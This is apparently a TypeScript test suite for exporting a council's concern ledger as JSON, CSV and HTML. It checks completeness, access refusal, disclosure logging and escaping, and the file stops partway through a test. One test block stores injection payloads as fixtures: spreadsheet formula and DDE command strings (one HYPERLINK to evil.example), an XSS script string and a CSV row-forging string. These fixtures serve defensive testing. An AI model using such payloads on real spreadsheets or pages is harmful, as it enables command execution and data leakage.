// Exports of the ledger: JSON, CSV and the page contain the same complete data; no content can break out of a format; nobody gets another
// council's ledger; and an export whose disclosures cannot be recorded is not sent.
import { setTimeout } from "node:timers/promises";
import { parse as parseCsv } from "csv-parse/sync";
import { getNamedType, isObjectType, parse, TypeInfo, visit, visitWithTypeInfo } from "graphql";
import { afterAll, afterEach, beforeAll, describe, expect, it, vi } from "vitest";
import { lazy } from "../../caching/cache.ts";
import { LogUnavailable } from "../../event-log/port.ts";
import type { LedgerDocument } from "../../exports/ledger-document.ts";
import { exportQuery } from "../../exports/ledger-query.ts";
import { namesForReading } from "../../exports/naming.ts";
import { policiesNamed } from "../../exports/policies-named.ts";
import { buildSchema } from "../../graphql/schema.ts";
import type { PolicyFiles } from "../../policies/engine/policy-set.ts";
import { policyTexts } from "../../queries/policy/read-policy.ts";
import { awareness, concern, proposal, TARROWSHIRE } from "../examples/api-inputs.ts";
import { startFullHub } from "../helpers/full-hub.ts";
import { shipped } from "../helpers/policy-files.ts";
import { type Story, startStory } from "../helpers/story-hub.ts";
import type { TestHub } from "../helpers/test-hub.ts";

const schema = buildSchema();
const FORMATS = ["json", "csv", "html"] as const;

type Exported = { readonly status: number; readonly headers: Headers; readonly text: string };
async function exported(hub: TestHub, person: string, body: object | string, path = "/ledger"): Promise<Exported> {
  const headers = { "content-type": "application/json", authorization: `Bearer ${await hub.token(person)}` };
  const sent = typeof body === "string" ? body : JSON.stringify(body);
  const response = await fetch(`${hub.url}${path}`, { method: "POST", body: sent, headers });
  // Byte order marks count, and `text()` drops them.
  const text = new TextDecoder("utf-8", { ignoreBOM: true }).decode(await response.arrayBuffer());
  return { status: response.status, headers: response.headers, text };
}
const heldBy = async (hub: TestHub, person: string, more: object = {}): Promise<LedgerDocument> =>
  JSON.parse((await exported(hub, person, { council: TARROWSHIRE, format: "json", ...more })).text);
const cellsOf = (text: string): readonly (readonly string[])[] => parseCsv(text, { bom: true });
const asText = (page: string): string =>
  page
    .replace(/<[^>]*>/g, "\u0000")
    .replace(/&(amp|lt|gt|quot|#39);/g, (_, name: string) => ({ amp: "&", lt: "<", gt: ">", quot: '"', "#39": "'" })[name] ?? "");

/** The rows of a table of the page, by its caption. */
function rowsOf(page: string, caption: string): readonly (readonly string[])[] {
  const [table = ""] = page.slice(page.indexOf(`<caption>${caption}`)).split("</table>");
  const [, body = ""] = table.split("<tbody>");
  return [...body.matchAll(/<tr>(.*?)<\/tr>/gs)].map(([, row = ""]) =>
    [...row.matchAll(/<t[hd][^>]*>(.*?)<\/t[hd]>/gs)].map(([, cell = ""]) => asText(cell)),
  );
}

describe("The document of an export", () => {
  /** Look-ups in public reference data, and fields that are elsewhere in the export. */
  const LEFT_OUT = new Set([
    // An actor is exported with the role in words, and directories are of today.
    ...["Actor.role", "Actor.body", "Actor.council", "Actor.workContact", "Concern.advisers"],
    // A council checks records page by page.
    "Disclosure.record",
    ...["Council", "Body", "Region", "PageInfo"],
    // The reader exports as the council, which has no body; and its disclosures stand in the ledger's own list.
    ...["Concern.sharedWithMe", "Concern.disclosures"],
    // What would be read is not on record, and the history has the answers to later words.
    ...["Share.preview", "Concern.laterWords"],
    // It is in the sharing record.
    ...["Concern.share", "Concern.attachment"],
    // They are all of the one council.
    ...["Support.council", "AlignedSupport.council", "PracticeContact.council"],
  ]);
  const WHERE_TO_START = [
    ...[
      "Ledger",
      "Concern",
      "Disclosure",
      "StandingAgreement",
      "ConversationLead",
      "Approach",
      "PracticeContact",
      "AlignedSupport",
    ],
    ...["Support", "Submission", "Signal"],
  ];

  it("selects every field of every record in a ledger, so that a new field is exported", () => {
    const asked = new Set<string>();
    const types = new TypeInfo(schema);
    visit(
      parse(exportQuery(schema)),
      visitWithTypeInfo(types, { Field: () => void asked.add(`${types.getParentType()?.name}.${types.getFieldDef()?.name}`) }),
    );
    const [missing, met, toLookAt] = [[] as string[], new Set<string>(), [...WHERE_TO_START]];
    for (let name = toLookAt.pop(); name !== undefined; name = toLookAt.pop()) {
      const type = schema.getType(name);
      if (!isObjectType(type) || met.has(name) || LEFT_OUT.has(name)) continue;
      met.add(name);
      for (const field of Object.values(type.getFields())) {
        const full = `${name}.${field.name}`;
        // Offices of today, and what the reader may do, are no part of the record.
        if (["commands", "speakingOffices", "councilReaders", "foundIn"].includes(field.name))
          expect(asked, full).not.toContain(full);
        else if (LEFT_OUT.has(full)) continue;
        else if (asked.has(full)) toLookAt.push(getNamedType(field.type).name);
        else missing.push(full);
      }
    }
    expect(missing).toEqual([]);
    expect(met.size).toBeGreaterThan(30);
  });

  it("has fields for every record of a council other than its concerns", () => {
    const fields = Object.keys((schema.getType("Council") as { getFields?(): object } | undefined)?.getFields?.() ?? {});
    const known =
      "code name type region from until successors invented concerns speakingOffices standingAgreements commands supportToOffer approachesFor";
    expect(fields.toSorted()).toEqual(
      `${known} supports alignedSupport conversationLead formerLeads approaches pastApproaches pastApproachCount routineContacts routineContactCount notedDates notedDateCount practiceContacts officers`
        .split(" ")
        .toSorted(),
    );
  });
});

describe("An export of a ledger in which everything has happened", () => {
  let hub: TestHub;
  let files: Readonly<Record<(typeof FORMATS)[number], Exported>>;
  let held: LedgerDocument;
  let before: readonly Recorded[];

  beforeAll(async () => {
    ({ hub } = await startFullHub());
    // The list itself is recorded, at most once an hour: the second list contains the first.
    await disclosuresOf(hub);
    before = await disclosuresOf(hub);
    const json = await exported(hub, "chief-executive", { council: TARROWSHIRE, format: "json" });
    const csv = await exported(hub, "chief-executive", { council: TARROWSHIRE, format: "csv" });
    files = { json, csv, html: await exported(hub, "chief-executive", { council: TARROWSHIRE, format: "html" }) };
    held = JSON.parse(json.text);
  });
  afterAll(() => hub?.close());

  it("is a file that no proxy stores, with a name that does not reveal the council", () => {
    const kinds = { json: "application/json", csv: "text/csv", html: "text/html" };
    for (const format of FORMATS) {
      const { status, headers } = files[format];
      expect(status).toBe(200);
      expect(headers.get("content-type")).toBe(`${kinds[format]}; charset=utf-8`);
      expect(headers.get("content-disposition")).toBe(`attachment; filename="candour-ledger-2026-07-10.${format}"`);
      expect(headers.get("cache-control")).toBe("no-store");
    }
  });

  it("has as many concerns, events and disclosures as its totals say, and each concern's events without a gap", () => {
    const { totals, concerns, disclosures, ofCouncil } = held;
    expect(totals).toEqual({
      concerns: concerns.length,
      historyEntries: concerns.flatMap(({ history }) => history ?? []).length,
      disclosures: disclosures.length,
      standingAgreements: ofCouncil?.standingAgreements.length,
      formerLeads: ofCouncil?.formerLeads.length,
      approaches: ofCouncil?.approaches.length,
      pastApproaches: ofCouncil?.pastApproaches.length,
      routineContacts: ofCouncil?.routineContacts.length,
      notedDates: ofCouncil?.notedDates.length,
      practiceContacts: ofCouncil?.practiceContacts.length,
      officers: ofCouncil?.officers.length,
      supports: ofCouncil?.supports.length,
      submissions: ofCouncil?.submissions.length,
      signals: ofCouncil?.signals.length,
    });
    expect(Object.values(totals).every((total) => total > 0)).toBe(true);
    for (const { version, history } of concerns) expect(history?.map(({ number }) => number)).toEqual(oneTo(version ?? 0));
  });

  it("has the reasons and statements of agreements, leads and approaches in every format", () => {
    const reasons = ["The lead moves to another region.", "The leads visit that week.", "For this year.", "The year is over."];
    for (const said of reasons) for (const format of FORMATS) expect(files[format].text, format).toContain(said);
  });
  const oneTo = (last: number) => Array.from({ length: last }, (_, at) => at + 1);

  it("has every concern and disclosure of the ledger over GraphQL", async () => {
    const { body } = await hub.ask<{ ledger: { concerns: { nodes: { id: string; version: number }[] } } }>(
      "chief-executive",
      `{ ledger(council: "${TARROWSHIRE}") { ... on Ledger { concerns(first: 100) { nodes { id version } } } } }`,
    );
    expect(held.concerns.map(({ id, version }) => ({ id, version }))).toEqual(body.data.ledger.concerns.nodes);
    const ids = new Set(held.disclosures.map(({ id }) => id));
    expect(before.length).toBeGreaterThan(50);
    expect(before.filter(({ id }) => !ids.has(id))).toEqual([]);
  });

  it("has a row in CSV for every event, disclosure and record about the council, and the same totals", () => {
    const [heads = [], ...rows] = cellsOf(files.csv.text);
    const records = rows.map((row) => Object.fromEntries(heads.map((head, at) => [head, row[at] ?? ""])));
    const of = (kind: string) => records.filter(({ record }) => record === kind);
    const events = held.concerns.flatMap(({ id, history }) => history?.map(({ number, at }) => `${id} ${number} ${at}`) ?? []);
    expect(
      of("event")
        .map(({ concern, number, when }) => `${concern} ${number} ${when}`)
        .toSorted(),
    ).toEqual(events.toSorted());
    expect(of("disclosure").length).toBeGreaterThanOrEqual(held.disclosures.length);
    const named = new Set(of("disclosure").map(({ id }) => id));
    expect(held.disclosures.filter(({ id }) => !named.has(id))).toEqual([]);
    expect(
      of("total")
        .map(({ text }) => Number(text))
        .slice(0, 2),
    ).toEqual(Object.values(held.totals).slice(0, 2));
    // Every record in the parts has its event.
    expect(of("part of a concern")).toEqual([]);
    const times = records.filter(({ record }) => record !== "about" && record !== "total").map(({ when }) => when ?? "");
    expect(times).toEqual(times.toSorted());
  });

  it("gives the id of what each event is about, which is an id in the concern and in the event's row of CSV", () => {
    const [heads = [], ...rows] = cellsOf(files.csv.text);
    const cell = (row: readonly string[], head: string) => row[heads.indexOf(head)];
    const idsOfRows = new Map(
      rows.map((row) => [`${cell(row, "concern")} ${cell(row, "number")} ${cell(row, "record")}`, cell(row, "id")]),
    );
    const about: Record<string, Set<string>> = {};
    for (const { history, ...concern } of held.concerns) {
      const ids = new Map<string, string>([[concern.id, "concern"]]);
      const summary = Object.entries(concern.summary ?? {});
      for (const [name, value] of [
        ...Object.entries(concern),
        ...summary,
        ["reassurances", concern.sharingRecord?.flatMap((share) => share.reassurances)],
      ])
        if (Array.isArray(value)) for (const { id } of value) if (id) ids.set(id, String(name));
      for (const { event, subject, number } of history ?? []) {
        about[event] = (about[event] ?? new Set()).add(ids.get(subject) ?? "nothing");
        expect(idsOfRows.get(`${concern.id} ${number} event`)).toBe(subject);
      }
      const reopened = (history ?? []).filter(({ event }) => event === "CONCERN_REOPENED");
      const conclusions = concern.summary?.conclusions.filter(({ reopenedAt }) => reopenedAt !== null) ?? [];
      expect(reopened.map(({ subject }) => subject)).toEqual(conclusions.map(({ id }) => id));
    }
    expect(Object.entries(about).filter(([, lists]) => lists.size !== 1 || lists.has("nothing"))).toEqual([]);
    expect(about).toMatchObject({
      CONCERN_LOGGED: new Set(["concern"]),
      ESCALATION_RAISED: new Set(["escalations"]),
      REASSURANCE_GIVEN: new Set(["reassurances"]),
      SHARE_MADE: new Set(["sharingRecord"]),
    });
  });

  it("shows in CSV who objected to a share with which body, its parts, last day and reason", () => {
    const [heads = [], ...rows] = cellsOf(files.csv.text);
    const objected = rows.find((row) => row[heads.indexOf("what")] === "The council objected to a share") ?? [];
    const cell = (head: string) => objected[heads.indexOf(head)];
    expect(["by", "to", "parts", "until", "text"].map(cell)).toEqual([
      "Maren Tolliver (invented) (chief-executive)",
      "Children's Improvement Board regional leads, East Midlands (cib-east-midlands)",
      "Headline; Summary",
      "2026-06-30",
      "It was asked for.",
    ]);
  });

  it("has on the page and in CSV every text, name and id of JSON", () => {
    const { csv, html } = files;
    const cells = cellsOf(csv.text)
      .flat()
      .map((cell) => cell.replace(/^'/, ""))
      .join("\u0000");
    const page = asText(html.text);
    const texts = new Set(textsIn({ ...held, scope: held.scope }));
    expect(texts.size).toBeGreaterThan(150);
    expect([...texts].filter((text) => !cells.includes(text))).toEqual([]);
    // Entries of the council's lists and disclosures appear there without their serial ids.
    const running = new Set(held.disclosures.map(({ id }) => id));
    expect(
      [...texts].filter(
        (text) => !page.includes(text) && !page.includes(numbered(text)) && !running.has(text) && !isConcern(text),
      ),
    ).toEqual([]);
  });

  it("shows on the page the text of every row of CSV, and of each event also the words at the time", () => {
    const [heads = [], ...rows] = cellsOf(files.csv.text);
    const page = asText(files.html.text);
    const columns = ["text", "words at the time"].map((head) => heads.indexOf(head));
    const texts = rows.flatMap((row) => columns.map((column) => (row[column] ?? "").replace(/^'/, "")));
    // The date and time of the export is in words on the page.
    expect(texts.filter((text) => !page.includes(forReading(text)) && text !== held.at)).toEqual([]);
    expect(texts.filter((text) => text !== "").length).toBeGreaterThan(100);
    // A list without entries is "none", and nested records are indented below their field.
    expect(texts.some((text) => /\nMilestones, by day: none\n/.test(text))).toBe(true);
    expect(texts.some((text) => /\nWhat is in it:\n {2}What it is to achieve: /.test(text))).toBe(true);
  });
  /** Id -> the number by which the page names the record. */
  const recordNumbers = lazy(
    () => new Map(rowsOf(files.html.text, "Records, by number").map(([name = "", id = ""]) => [id, name.toLowerCase()])),
  );
  const numbered = (text: string): string =>
    text.replace(/[0-9a-f]{8}(?:-[0-9a-f]{4}){3}-[0-9a-f]{12}/g, (id) => recordNumbers().get(id) ?? id);
  /** A text of CSV as the page has it: names without ids and hashes, policies and records by their numbers. */
  function forReading(whole: string): string {
    const text = whole.replace(/(?<=\([0-9a-f-]{36}), SHA-256 [0-9a-f]{64}(?=\))/g, "");
    const named = new Set(namedIn(held).map(({ id, name }) => `${name} (${id})`));
    const policies = [...new Set(held.policies.map(({ id }) => id))].sort();
    const bare = [...named].reduce((rest, one) => rest.replaceAll(one, one.replace(/ \([^()]*\)$/, "")), text);
    return numbered(bare).replace(/(?<=[(;] ?)[a-z][a-z-]+(?=[);])/g, (word) =>
      policies.includes(word) ? `policy ${policies.indexOf(word) + 1}` : word,
    );
  }
  function namedIn(value: unknown): readonly { readonly id: string; readonly name: string }[] {
    if (typeof value !== "object" || value === null) return [];
    const { id, code = id, person = code, name } = value as Record<string, unknown>;
    const own = typeof person === "string" && typeof name === "string" ? [{ id: person, name }] : [];
    return [...own, ...Object.values(value).flatMap(namedIn)];
  }

  it("names people, bodies, councils and policies on the page without their ids, which stand in lists at the end", () => {
    const page = asText(files.html.text);
    const [reading = "", lists = ""] = page.split("What the policies say");
    for (const { id, name } of namedIn(held)) {
      expect(reading).not.toContain(`(${id})`);
      for (const text of [id, name]) expect(lists).toContain(text);
    }
    for (const { id } of held.policies) expect(reading).not.toContain(id);
    expect(reading).toMatch(/Headline \(policy \d+\)/);
    expect(files.html.text).toMatch(/@bottom-right \{ content: "Page " counter\(page\)/);
    expect(reading).toContain("In confidence.");
  });

  it("has of each concern what matters first, then all that happened in its order, and what proves it at the end alone", () => {
    const [reading = "", lists = ""] = files.html.text.split("What the policies say");
    expect(reading.match(/.*(?:[0-9a-f]{8}-[0-9a-f]{4}-|[0-9a-f]{64}).*/g) ?? []).toEqual([]);
    for (const { history } of held.concerns)
      for (const { subject, previous } of history ?? []) for (const text of [subject, previous]) expect(lists).toContain(text);
    const [ofConcerns = ""] = reading.split("Other information about the council");
    const sections = ofConcerns.split('<section class="concern">').slice(1);
    expect(sections).toHaveLength(held.concerns.length);
    const order = [
      "What the concern says",
      "What the council says",
      "Evidence",
      "Whom it is and was shared with",
      "How the council was told",
    ];
    const places = order.map((heading) => sections[0]?.indexOf(`<h3>${heading}`) ?? -1);
    expect(places[0]).toBeGreaterThan(0);
    expect(places).toEqual(places.toSorted((a, b) => a - b));
    for (const one of sections) expect(one.indexOf("Everything that happened")).toBeGreaterThan(one.lastIndexOf("<h3>"));
  });

  const isConcern = (text: string) => held.concerns.some(({ id }) => id === text);

  /** Every text that a person wrote, and every name and id; the texts of policies are once in the page, and elsewhere by id. */
  function textsIn(value: unknown): readonly string[] {
    if (typeof value === "string") return value && !isWordedElsewise(value) ? [value] : [];
    if (Array.isArray(value)) return value.flatMap(textsIn);
    if (typeof value !== "object" || value === null) return [];
    const { effect, reason, challenge, ...rest } = value as Record<string, unknown>;
    return Object.values(effect === undefined ? value : rest).flatMap(textsIn);
  }
  const isWordedElsewise = (text: string) =>
    /^[A-Z][A-Z0-9_]*$/.test(text) || /^\d{4}-\d\d-\d\d(T|$)/.test(text) || /^E12/.test(text);

  it("is one page that runs and fetches nothing, skips no level of headings, and has the texts of policies", () => {
    const { text, headers } = files.html;
    expect(text).toMatch(/^<!doctype html>\n<html lang="en-GB">/);
    expect(text).not.toMatch(/<script|<link|<img|<iframe|\s(src|href|style|on\w+)=|@import|url\(/i);
    const policy = headers.get("content-security-policy");
    expect(policy).toMatch(/^default-src 'none'; style-src 'sha256-[\w+/=]+'; .*sandbox$/);
    const levels = [...text.matchAll(/<h([1-6])>/g)].map(([, level]) => Number(level));
    expect(levels.filter((level, at) => level > (levels[at - 1] ?? 0) + 1)).toEqual([]);
    expect(text.match(/<th /g)?.length).toBe(text.match(/<th scope="(col|row)">/g)?.length);
    expect(text).toContain("@page");
    const page = asText(text);
    for (const { id, reason, challenge } of held.policies)
      for (const said of [id, reason ?? "", challenge ?? ""]) expect(page).toContain(said);
  });

  it("has the text of every policy that it names, whether for access, a disclosure or a change", () => {
    const { concerns, disclosures, policies } = held;
    const explained = new Set(policies.filter(({ reason }) => reason).map(({ id }) => id));
    const seeing = concerns.flatMap(({ audience }) => audience?.flatMap(({ parts }) => parts.map((part) => part.policies)) ?? []);
    const named = [
      ...seeing.flat().map(({ id }) => id),
      ...disclosures.flatMap(({ parts }) => parts.flatMap((part) => part.policies)),
      ...concerns.flatMap(({ history }) => history?.flatMap(({ permittedBy }) => permittedBy) ?? []),
    ];
    expect(new Set(named)).toEqual(explained);
    expect(explained).toContain("adviser-acts");
    const cells = cellsOf(files.csv.text).flat().join("\u0000");
    for (const { id, reason, versions } of policies)
      for (const said of [id, reason ?? "", ...versions]) expect(cells).toContain(said);
  });

  it("summarises who has access and who opened it, in English time", () => {
    const page = asText(files.html.text);
    const live = held.concerns.flatMap(({ sharingRecord }) => sharingRecord ?? []).filter(({ status }) => status === "LIVE");
    expect(live.length).toBeGreaterThan(0);
    const first = page.slice(page.indexOf("Bodies that have access now"), page.indexOf("Who opened it"));
    for (const { body } of live) expect(first).toContain(body.name);
    expect(page).toContain("1 July 2026 at 13:00:00 BST");
  });

  it("begins with who can see it, and counts by name who read and who changed something, people outside the council first", () => {
    const [see, opened] = ["Who can see this information now", "Who opened it"].map((caption) =>
      rowsOf(files.html.text, caption),
    );
    const [chief, adviser] = ["Maren Tolliver (invented)", "Rowan Ashdown (invented)"];
    const place = (rows: readonly (readonly string[])[] | undefined, who: string) =>
      (rows ?? []).findIndex(([first]) => first?.includes(who));
    for (const rows of [see, opened]) {
      expect(place(rows, adviser)).toBeGreaterThanOrEqual(0);
      expect(place(rows, adviser)).toBeLessThan(place(rows, chief));
    }
    expect(files.html.text.indexOf("<caption>")).toBe(files.html.text.indexOf("<caption>Who can see this information now"));
    expect(see?.[place(see, chief)]?.[2]).toMatch(/Concern 1: Headline; Summary/);
    const times = (surfaces: (surface: string) => boolean) =>
      held.disclosures.filter(({ person, surface }) => person.id === "chief-executive" && surfaces(surface)).length;
    const counted = (column: number) =>
      (opened ?? []).filter(([who]) => who === chief).reduce((sum, row) => sum + Number(row[column]), 0);
    expect([counted(2), counted(3)]).toEqual([times((one) => one !== "COMMAND"), times((one) => one === "COMMAND")]);
    expect(counted(3)).toBeGreaterThan(0);
  });

  it("names what it counts in plain words", () => {
    for (const said of ["Requests for support", "Agreements to be contacted"]) {
      expect(files.csv.text).toContain(said);
      expect(asText(files.html.text)).toContain(said);
    }
  });

  it("is recorded as an export to its reader in their office", async () => {
    const { disclosures, concerns, ofCouncil } = held;
    const exports = disclosures.filter(({ surface }) => surface === "EXPORT");
    const { supports = [], submissions = [], signals = [] } = ofCouncil ?? {};
    const records = [...concerns, ...supports, ...submissions, ...signals].map(({ id }) => id);
    expect(new Set(exports.map(({ subject }) => subject))).toEqual(new Set(records));
    for (const { person, capacities } of exports)
      expect([person.id, capacities.map(({ role }) => role)]).toEqual(["chief-executive", ["CHIEF_EXECUTIVE"]]);
    // It leaves in no other way: what was read of the ledger before is all that stands as that.
    const readBefore = before.filter(({ surface }) => surface === "LEDGER").map(({ id }) => id);
    expect(disclosures.filter(({ surface }) => surface === "LEDGER").map(({ id }) => id)).toEqual(readBefore);
  });

  it("of a past instant has the ledger of that instant, and says so", async () => {
    const past = await heldBy(hub, "chief-executive", { at: "2026-03-02T12:00:00.000Z" });
    expect(past).toMatchObject({ at: "2026-03-02T12:00:00.000Z", isOfThePast: true, ofCouncil: null });
    expect(past.scope.join(" ")).toContain("This is the ledger at a time in the past.");
    expect(past.totals.historyEntries).toBeLessThan(held.totals.historyEntries ?? 0);
    for (const { history } of past.concerns)
      for (const { at } of history ?? []) expect(at <= "2026-03-02T12:00:00.000Z").toBe(true);
    const { text } = await exported(hub, "chief-executive", { council: TARROWSHIRE, format: "html", at: past.at });
    expect(asText(text)).toContain("Bodies that had access then");
  });
});

type Recorded = { readonly id: string; readonly surface: string };
type RecordedPage = {
  readonly nodes: readonly Recorded[];
  readonly pageInfo: { readonly hasNextPage: boolean; readonly endCursor: string };
};
async function disclosuresOf(hub: TestHub): Promise<readonly Recorded[]> {
  const found: Recorded[] = [];
  for (let after: string | undefined; ; ) {
    const { body } = await hub.ask<{ ledger: { disclosures: RecordedPage } }>(
      "chief-executive",
      `query($after: String) { ledger(council: "${TARROWSHIRE}") { ... on Ledger {
        disclosures(first: 100, after: $after) { nodes { id surface } pageInfo { hasNextPage endCursor } } } } }`,
      { after },
    );
    const { nodes, pageInfo } = body.data.ledger.disclosures;
    found.push(...nodes);
    if (!pageInfo.hasNextPage) return found;
    after = pageInfo.endCursor;
  }
}

describe("An export under another policy than the one in force", () => {
  const version = (n: number) => `version-${n}`;
  const held = {
    policyVersion: version(2),
    concerns: [
      { audience: [], history: [1, 2, 3, 4].map((n) => ({ policyVersion: version(n), permittedBy: ["council-reads", "gone"] })) },
    ],
    disclosures: [],
  } as unknown as LedgerDocument;
  const reworded = (files: PolicyFiles): PolicyFiles =>
    Object.fromEntries(
      Object.entries(files).map(([name, text]) => [name, text.replaceAll('@reason("', '@reason("In other words: ')]),
    );
  const { files } = shipped;
  const known: Readonly<Record<string, PolicyFiles>> = {
    [version(1)]: files,
    [version(2)]: files,
    [version(3)]: reworded(files),
    [version(4)]: { "no.cedar": "no policy" },
  };

  it("has the text of each policy in each version, and none if it is not found", async () => {
    const policies = await policiesNamed(held, (one) => policyTexts(known[one], shipped));
    expect(policies.map(({ id, reason, versions }) => [id, reason !== null, versions])).toEqual([
      ["council-reads", true, [version(1), version(2)]],
      ["council-reads", true, [version(3)]],
      ["council-reads", false, [version(4)]],
      ["gone", false, [1, 2, 3, 4].map(version)],
    ]);
    expect(policies[0]).toMatchObject({ effect: "PERMIT", reason: shipped.texts.get("council-reads")?.reason });
  });
});

describe("Text in a ledger cannot inject anything", () => {
  const NASTY = [
    '=HYPERLINK("http://evil.example/?"&A1;"x")',
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "</dd></dl><script>alert(1)</script><b onmouseover='x'>&lt;\"'",
    'He said "no", then\r\n=1+1\r\n","forged","cells"',
  ];
  /** Text is stored with one form of line ends. */
  const STORED = NASTY.map((text) => text.replaceAll("\r\n", "\n"));
  let story: Story;
  beforeAll(async () => {
    story = await startStory();
    for (const text of NASTY)
      await story.does("adviser", "recordAwareness", {
        ...{ ...awareness, toldName: text.slice(0, 100), about: text, bodies: [proposal.body], toldOn: "2026-03-02" },
        concern: await story.does("adviser", "logConcern", { ...concern, summary: text, observed: text }),
      });
    const name = "=cmd()<script>\"'&";
    const { people } = story.hub.services;
    await people.execute("registerPerson", { person: "nasty", name }, story.hub.asHub("nasty"));
    const lasting = { from: "2020-01-01", until: "2039-12-31" };
    const officer = {
      person: "nasty",
      role: "nominated-officer",
      council: TARROWSHIRE,
      strands: ["childrens", "adults"],
      ...lasting,
    };
    await people.execute("startAssignment", officer, story.hub.asHub("nasty-assignment"));
    await story.asks("nasty", "{ concerns { nodes { id } } }");
  });
  afterAll(() => story?.close());

  it("into CSV: no cell is a formula, and the text follows the apostrophe", async () => {
    const { text } = await exported(story.test, "chief-executive", { council: TARROWSHIRE, format: "csv" });
    expect(text.startsWith('\uFEFF"record","when",')).toBe(true);
    expect(text.endsWith("\r\n")).toBe(true);
    const rows = cellsOf(text);
    expect(new Set(rows.map(({ length }) => length)).size).toBe(1);
    expect(rows.flat().filter((cell) => /^\s*[=+\-@]/.test(cell))).toEqual([]);
    expect(rows.flat().some((cell) => cell.startsWith("'=cmd()<script>\"'& (nasty)"))).toBe(true);
    const cells = rows.flat().join("\u0000");
    for (const said of STORED) expect(cells).toContain(said);
  });

  it("into HTML: it is text, and the page has only its own elements", async () => {
    const { text } = await exported(story.test, "chief-executive", { council: TARROWSHIRE, format: "html" });
    expect(text).not.toMatch(/<script|<b |onmouseover='x'>/);
    const page = asText(text);
    for (const said of STORED) expect(page).toContain(said);
    expect(page).toContain("=cmd()<script>\"'&");
    const elements = new Set([...text.matchAll(/<([a-z0-9]+)/g)].map(([, name]) => name));
    const own =
      "html head meta title style body main section h1 h2 h3 h4 h5 h6 p strong table caption thead tbody tr th td dl div dt dd span";
    expect([...elements].filter((name) => !own.split(" ").includes(name ?? ""))).toEqual([]);
  });
});

describe("An export is refused", () => {
  let story: Story;
  let hub: TestHub;
  const good = { council: TARROWSHIRE, format: "json" };
  beforeAll(async () => {
    story = await startStory();
    hub = story.test;
    await story.awareConcern([proposal.body]);
  });
  afterAll(() => story?.close());
  afterEach(() => vi.restoreAllMocks());
  const codeOf = ({ text }: Exported): unknown => JSON.parse(text).errors[0].extensions.code;

  it.each(
    "adviser second-adviser cib-lead department panel-member advisory-board governance-officer administrator leader-ambleford nobody".split(
      " ",
    ),
  )("for %s, who is not of the council, like one of a council that is not there", async (person) => {
    const refused = await exported(hub, person, good);
    const unknown = await exported(hub, person, { ...good, council: "X99999999" });
    expect([refused.status, codeOf(refused)]).toEqual([404, "NOT_FOUND"]);
    expect(refused.text).toBe(unknown.text);
    expect(unknown.status).toBe(404);
    // The instant is not checked either.
    expect((await exported(hub, person, { ...good, at: "2001-01-01T00:00:00Z" })).text).toBe(refused.text);
  });

  it("without a token, and with any method but POST", async () => {
    const headers = { "content-type": "application/json" };
    expect((await fetch(`${hub.url}/ledger`, { method: "POST", body: "{", headers })).status).toBe(401);
    const got = await fetch(`${hub.url}/ledger?council=${TARROWSHIRE}&format=json`);
    expect([got.status, got.headers.get("allow")]).toEqual([405, "POST"]);
  });

  it("with a body of another form, and names the form", async () => {
    for (const body of [
      "{",
      "[]",
      {},
      { council: TARROWSHIRE },
      { ...good, format: "pdf" },
      { ...good, at: "yesterday" },
      { ...good, at: 5 },
    ]) {
      const refused = await exported(hub, "chief-executive", body);
      expect([refused.status, codeOf(refused)]).toEqual([400, "BAD_REQUEST"]);
      expect(refused.text).toContain("format");
    }
    const headers = { "content-type": "text/plain", authorization: `Bearer ${await hub.token("chief-executive")}` };
    expect((await fetch(`${hub.url}/ledger`, { method: "POST", body: JSON.stringify(good), headers })).status).toBe(415);
    expect((await exported(hub, "chief-executive", { ...good, more: "x".repeat(1_100_000) })).status).toBe(413);
    expect((await exported(hub, "chief-executive", good, "/ledger/more")).status).toBe(404);
  });

  it.each([
    ["before the hub began", "2001-01-01T00:00:00Z", "BEFORE_HUB_BEGAN"],
    ["that lies in the future", "2099-01-01T00:00:00Z", "NOT_YET"],
  ])("for an instant %s", async (_, at, code) => {
    const refused = await exported(hub, "chief-executive", { ...good, at });
    expect([refused.status, codeOf(refused)]).toEqual([400, code]);
    expect(JSON.parse(refused.text).errors[0].extensions.field).toBe("at");
  });

  it.each(FORMATS)("as %s while disclosures cannot be recorded, and works when they can", async (format) => {
    // Past the hour in which the same views are on record already.
    story.on(`2026-03-1${FORMATS.indexOf(format)}`);
    const append = vi.spyOn(hub.hub.disclosures, "append").mockRejectedValue(new LogUnavailable("It could not be written."));
    const refused = await exported(hub, "chief-executive", { ...good, format });
    expect([refused.status, codeOf(refused)]).toEqual([503, "UNAVAILABLE"]);
    expect(refused.text).toContain("The hub records every disclosure first");
    expect(refused.text).not.toContain(concern.summary);
    expect(refused.headers.get("content-disposition")).toBeNull();
    append.mockRestore();
    expect((await exported(hub, "chief-executive", { ...good, format })).text).toContain(concern.summary);
  });

  it("when its pages do not fit each other", async () => {
    const { log } = hub.hub;
    const readStream = log.readStream.bind(log);
    vi.spyOn(log, "readStream").mockImplementation(async (stream, ...more) => (await readStream(stream, ...more)).slice(0, -1));
    const refused = await exported(hub, "chief-executive", good);
    expect([refused.status, codeOf(refused)]).toEqual([503, "NOT_READY"]);
    expect(refused.text).not.toContain(concern.summary);
  });

  it("when a resolver fails, without the error's text", async () => {
    vi.spyOn(hub.hub.log, "readStream").mockRejectedValue(new Error("secret"));
    const refused = await exported(hub, "chief-executive", good);
    expect([refused.status, codeOf(refused)]).toEqual([500, "INTERNAL"]);
    expect(refused.text).not.toContain("secret");
    expect(hub.logged.join("")).not.toContain("secret");
  });

  it("while another one for the person is being made", async () => {
    const { log } = hub.hub;
    const readStream = log.readStream.bind(log);
    const [begun, ready] = [Promise.withResolvers<void>(), Promise.withResolvers<void>()];
    vi.spyOn(log, "readStream").mockImplementation(async (...asked) => {
      begun.resolve();
      await ready.promise;
      return readStream(...asked);
    });
    const first = exported(hub, "chief-executive", good);
    await begun.promise;
    const refused = await exported(hub, "chief-executive", good);
    expect([refused.status, codeOf(refused)]).toEqual([429, "BUSY"]);
    const other = exported(hub, "nominated-officer", good);
    ready.resolve();
    expect([(await first).status, (await other).status]).toEqual([200, 200]);
    expect((await exported(hub, "chief-executive", good)).status).toBe(200);
  });

  it("no more after the person cancelled one that waited for others, which is no fault in the log", async () => {
    const { log } = hub.hub;
    const readStream = log.readStream.bind(log);
    const ready = Promise.withResolvers<void>();
    let begun = 0;
    vi.spyOn(log, "readStream").mockImplementation(async (...asked) => {
      begun += 1;
      await ready.promise;
      return readStream(...asked);
    });
